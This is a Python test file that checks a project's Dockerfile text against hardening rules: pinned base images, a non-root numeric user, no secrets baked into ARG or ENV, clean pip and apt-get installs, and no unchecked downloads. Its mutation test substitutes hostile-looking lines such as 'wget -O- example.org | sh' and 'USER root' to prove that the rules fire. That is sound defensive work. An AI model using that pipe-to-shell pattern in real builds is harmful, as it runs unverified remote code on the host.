"""The Dockerfile's own rules, as far as its text shows them: nothing here can build it."""

import re
from pathlib import Path

ROOT = Path(__file__).parents[2]
TEXT = (ROOT / "cluster" / "Dockerfile").read_text()


def instructions(text: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, its words), comments left out and continued lines joined."""
    lines = "\n".join(line for line in text.splitlines() if not line.lstrip().startswith("#"))
    joined = re.sub(r"\\\n\s*", " ", lines)
    return [(line.split()[0], line.split(maxsplit=1)[1]) for line in joined.splitlines() if line.strip()]


def problems(text: str) -> list[str]:
    """What a reader of a Dockerfile does not want to see."""
    found, steps = [], instructions(text)
    arguments = dict(words.split("=", 1) for name, words in steps if name == "ARG")
    bases = [words.split()[0] for name, words in steps if name == "FROM"]
    for base in bases:
        image = re.sub(r"\$\{(\w+)\}", lambda name: arguments[name[1]], base)
        if not re.search(r":\d+\.\d+\.\d+-|@sha256:", image):
            found.append(f"{base}: no pinned version")
    users = [words for name, words in steps if name == "USER"]
    if not users or not re.fullmatch(r"[1-9]\d*(:\d+)?", users[-1]):
        found.append("the last user must be a number other than root's, which Kubernetes can check")
    for name, words in steps:
        if name == "ADD" or (name == "COPY" and re.match(r"\.\s", words)):
            found.append(f"{name} {words}: copies what nobody has listed")
        if name in ("ARG", "ENV") and re.search(r"(?i)secret|token|passw|_key\b", words):
            found.append(f"{name} {words}: a secret would stay in the image")
        if "pip install" in words and not ("--no-cache-dir" in words and " -c " in words):
            found.append(f"{words}: pip needs --no-cache-dir and the constraints")
        if "apt-get install" in words:
            wanted = ("apt-get update", "--no-install-recommends", "rm -rf /var/lib/apt/lists")
            found += [f"apt-get without {part}" for part in wanted if part not in words]
        if re.search(r"curl|https?://", words) or "|" in words.replace("||", ""):
            found.append(f"{words}: fetches something that no package manager checks")
    return found


def test_the_dockerfile_is_one_to_trust() -> None:
    assert problems(TEXT) == []


def test_what_it_copies_exists_and_is_all_that_the_package_needs() -> None:
    copied = {
        word
        for name, words in instructions(TEXT)
        if name == "COPY" and "--from" not in words
        for word in words.split()[:-1]
    }
    assert [word for word in copied if not (ROOT / word).exists()] == []
    assert copied >= {"pyproject.toml", "README.md", "constraints.txt", "workloads", "orchestrator", "cluster"}


def test_the_user_is_that_of_the_manifests() -> None:
    from cluster.kuberay_pods import USER

    assert ("USER", f"{USER}:{USER}") in instructions(TEXT)
    assert any(f"--uid {USER} " in words for _, words in instructions(TEXT))


def test_it_has_what_the_probes_and_ray_up_call() -> None:
    installed = next(words for name, words in instructions(TEXT) if "apt-get install" in words)
    assert {"bash", "wget", "openssh-client", "rsync"} <= {*installed.split()}


def test_each_rule_can_be_broken() -> None:
    for before, after in (
        ("BASE=python:3.11.14-slim-bookworm", "BASE=python:latest"),
        ("USER 1000:1000", "USER root"),
        ("USER 1000:1000", ""),
        ("COPY cluster cluster", "COPY . ."),
        ("COPY cluster cluster", "ADD https://example.org/x ."),
        ("ENV PYTHONUNBUFFERED=1", "ENV API_TOKEN=1"),
        ("--no-cache-dir --no-compile -c", "--no-compile -c"),
        (" -c /opt/antiphon/constraints.txt", ""),
        ("apt-get update", "true"),
        ("--no-install-recommends ", ""),
        ("&& rm -rf /var/lib/apt/lists/*", ""),
        ("antiphon --version", "wget -O- example.org | sh"),
    ):
        assert before in TEXT
        assert problems(TEXT.replace(before, after)), after
